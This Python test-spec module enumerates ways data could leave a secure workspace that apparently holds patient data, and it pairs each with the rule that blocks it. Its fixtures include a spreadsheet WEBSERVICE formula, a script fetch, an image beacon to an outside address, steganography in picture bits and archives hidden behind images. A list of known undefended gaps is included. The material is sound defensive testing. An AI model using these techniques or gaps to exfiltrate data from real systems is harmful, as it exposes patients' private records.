"""Every way out of a workspace that we know of: which are tried, where each ends, and which are not defended.

The table of docs/reference/workspace.md is made from this list; `test_ways_out.py` tries each and compares.
"""

from __future__ import annotations

import base64
import io
import json
import zipfile
from collections.abc import Callable

import numpy as np
from PIL import Image, PngImagePlugin
from tests.spec.ways_inside import WAYS


def chart() -> np.ndarray:
    samples = np.full((120, 200, 3), 255, dtype=np.uint8)
    samples[40:, 20:60] = (10, 90, 131)
    samples[70:, 90:130] = (155, 61, 118)
    return samples


def png(samples: np.ndarray, **more: object) -> bytes:
    stream = io.BytesIO()
    Image.fromarray(samples).save(stream, "PNG", **more)  # type: ignore[arg-type]
    return stream.getvalue()


def _in_least_bits() -> bytes:
    samples = chart()
    bits = np.random.default_rng(4).integers(0, 2, 16_384, dtype=np.uint8)
    flat = samples.reshape(-1)
    flat[: len(bits)] = (flat[: len(bits)] & 0xFE) | bits
    return png(samples)


def _zip(name: str, content: str) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(name, content)
    return stream.getvalue()


def _with_remark() -> bytes:
    remarks = PngImagePlugin.PngInfo()
    remarks.add_text("Comment", "P4211 died")
    return png(chart(), pnginfo=remarks)


def _notebook(**cell: object) -> bytes:
    kept = {"cell_type": "code", "metadata": {}, "source": "1", "outputs": []} | cell
    return json.dumps({"cells": [kept], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


_SMALL = [{"output_type": "display_data", "data": {"text/html": "<table><tr><th>g</th><th>n</th></tr><tr><td>a</td><td>3</td></tr></table>"}}]
_ROWS = "age,sex,dose\n" + "\n".join(f"{20 + n},F,0.{n}" for n in range(40))

# What is handed in, and the rule that stops it.
FILES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a cell of few patients": ("t.csv", lambda: b"g,n\na,40\nb,3", "small"),
    "a redacted cell beside its total": ("t.csv", lambda: b"g,n\na,40\nb,\nTotal,45", "deduced"),
    "one row per patient": ("t.csv", _ROWS.encode, "microdata"),
    "pseudonyms in a column": ("t.csv", lambda: b"who,n\nP4211,40", "pseudonym"),
    "a column without a name": ("t.csv", lambda: b"g,n,\na,40,7", "hidden"),
    "a column beyond the heading": ("t.csv", lambda: b"g,n\na,40,7", "ragged"),
    "characters without width": ("t.csv", "g,n\na\u200b\u200c,40".encode, "hidden"),
    "blanks at the ends of lines": ("t.csv", lambda: b"g,n\n" + b"a,40 \t \n" * 12, "hidden"),
    "the last digits of numbers": ("t.csv", lambda: b"g,rate,n\na,0.31415926535,40", "digits"),
    "base 64 in a cell": ("t.csv", lambda: b"g,n\n" + base64.b64encode(bytes(range(256)) * 2) + b",40", "code"),
    "a formula for the reader's spreadsheet": ("t.csv", lambda: b'g,n\n"=WEBSERVICE(""x"")",40', "active"),
    "a Parquet file": ("t.parquet", lambda: b"PAR1....PAR1", "columnar"),
    "a Parquet file that is called CSV": ("t.csv", lambda: b"PAR1....PAR1", "columnar"),
    "a pickle": ("m.pkl", lambda: b"\x80\x04N.", "pickle"),
    "an archive": ("t.zip", lambda: _zip("a.csv", _ROWS), "kind"),
    "an archive behind a picture": ("f.png", lambda: png(chart()) + _zip("a.csv", _ROWS), "archive"),
    "raw bytes behind a picture": ("f.png", lambda: png(chart()) + b"P4211", "trailing"),
    "words in a picture's metadata": ("f.png", _with_remark, "metadata"),
    "least bits of a picture": ("f.png", _in_least_bits, "least-bits"),
    "raw bytes as pixels": ("f.png", lambda: png(np.random.default_rng(5).integers(0, 256, (90, 90, 3), dtype=np.uint8)), "noise"),
    "a text that a drawing does not show": ("f.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><text opacity="1" style="display:none">x</text></svg>', "hidden"),
    "a script in a report": ("r.html", lambda: b"<p>a</p><script>fetch('//x')</script>", "active"),
    "a picture of another address in a report": ("r.html", lambda: b'<img src="https://example.org/?P4211">', "outside"),
    "an attachment in a PDF": ("f.pdf", lambda: b"%PDF-1.7\n1 0 obj<</Type/EmbeddedFile>>\n%%EOF\n", "active"),
    "an output of a notebook": ("b.ipynb", lambda: _notebook(outputs=_SMALL), "small"),
    "a folded output of a notebook": ("b.ipynb", lambda: _notebook(metadata={"jupyter": {"outputs_hidden": True}}), "hidden"),
    "an attachment of a notebook": ("b.ipynb", lambda: _notebook(attachments={"x": {"image/png": "eA=="}}), "attachment"),
    "a model that keeps its patients": ("m.skops", lambda: _zip("schema.json", '{"__class__": "KNeighborsClassifier"}'), "memory"),
    "a file too large to be read": ("t.csv", lambda: b"g,n\n" * 600_000, "size"),
}  # fmt: skip

# What lies in out/ and is no plain file of one's own.
FOLDER = ("a symbolic link in out/", "a hard link in out/", "a pipe in out/", "a socket in out/", "a link in place of the notebook's socket")

# What a page of the workspace may try in the reader's browser, and what is asked of the door.
DOOR = (
    "a visitor without a pass", "a pass of another project", "a pass after signing out", "a pass after leaving the team", "a post from another site",
    "a page opened outside of the portal's frame", "download through files/", "download through nbconvert/", "download of a table through contents",
    "a cookie set for the portal", "the portal's cookie read by the notebook", "a picture or a request to another address",
)  # fmt: skip

# The whole of the workspace.
WATCH = ("a fork bomb", "a disk filled up", "a workspace left running")

UNDEFENDED = (
    ("reading, copying or photographing the screen", "a person may always write down what they see; the charter forbids it, the trail says who had it open"),
    ("the reader's own browser asking elsewhere by WebRTC", "browsers that know the policy `webrtc 'block'` stop it; the others do not"),
    ("a message in plausible rounded counts", "a table may lie; the checker compares it with the purpose, some bits pass"),
    ("a few bits sown widely in the least bits of a picture", "below the detection's threshold; ask for SVG or the table of counts"),
    ("a surname alone, without a title or another name", "the rules that mask texts need a context; the checker reads labels"),
    ("time and load of the processor, seen from another workspace", "the same machine is shared; place projects apart where this matters"),
    ("a fault of the kernel or of bubblewrap", "no system-call filter yet; keep the machine up to date, one machine for workspaces alone"),
    ("processes of a portal that runs as root", "the limit of processes binds no root user; run the portal as a user of its own, the watch counts all the same"),
)


def markdown() -> str:
    """The table of the reference page."""
    lines = ["| # | Way out | Where it ends |", "|---|---|---|"]
    ended = [(name.replace("_", " "), "fails inside") for name in WAYS]
    ended += [(name, f"refused at the airlock (`{rule}`)") for name, (_, _, rule) in FILES.items()]
    ended += [(name, "not read by the portal") for name in FOLDER]
    ended += [(name, "refused at the workspace's door") for name in DOOR]
    ended += [(name, "seen by the watch, which stops the workspace") for name in WATCH]
    ended += [(name, f"**not defended**: {why}") for name, why in UNDEFENDED]
    lines += [f"| {number} | {name} | {where} |" for number, (name, where) in enumerate(ended, start=1)]
    return "\n".join(lines) + "\n"
